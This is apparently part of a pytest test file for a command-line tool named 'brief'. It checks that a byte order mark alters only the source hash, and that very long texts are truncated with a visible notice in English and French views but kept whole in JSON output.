def test_an_article_with_a_byte_order_mark_differs_only_in_its_bytes(tmp_path: Path) -> None:
    article = tmp_path / "bom.txt"
    article.write_bytes(b"\xef\xbb\xbf" + MINI_ARTICLE.read_bytes())
    run = brief("validate", str(MINI), "--source", str(article), "--json")
    assert [p["path"] for p in run.json()["problems"]] == ["$.source.sha256"]  # no headline problem


# --- huge texts in human views -------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_a_huge_text_is_cut_visibly_in_a_human_view_and_whole_in_json(tmp_path: Path, lang: str) -> None:
    """Rich's line splitting is quadratic in a text's length (a 10 MB story took 56 s in
    a card): a person is shown 20,000 characters and told how many more there are."""
    document = json.loads(MINI.read_text(encoding="utf-8"))
    story = "le budget de la ville " * 20_000  # 440,000 characters
    document["actors"][0]["story"] = {"en": story, "fr": story}
    document["events"][0]["detail"] = {"en": story, "fr": story}
    path = write_json(tmp_path / "huge.json", document)
    card = brief("actors", "zoe", "--data", str(path), "--lang", lang).stdout
    flowing = " ".join(card.replace("│", " ").split())
    words = (
        r"more characters: --json shows all" if lang == "en" else r"caractères de plus : --json montre tout"
    )
    cut = re.search(rf"… \[([\d,]+) {words}\]", flowing)
    assert cut is not None, flowing[-300:]
    assert len(story) - 20_000 <= int(cut[1].replace(",", "")) <= len(story) - 10_000
    assert len(card) < 40_000
    timeline = brief("timeline", "--data", str(path), "--lang", lang).stdout
    assert len(timeline) < 40_000
    assert brief("actors", "zoe", "--json", "--data", str(path)).json()[0]["story"] == story
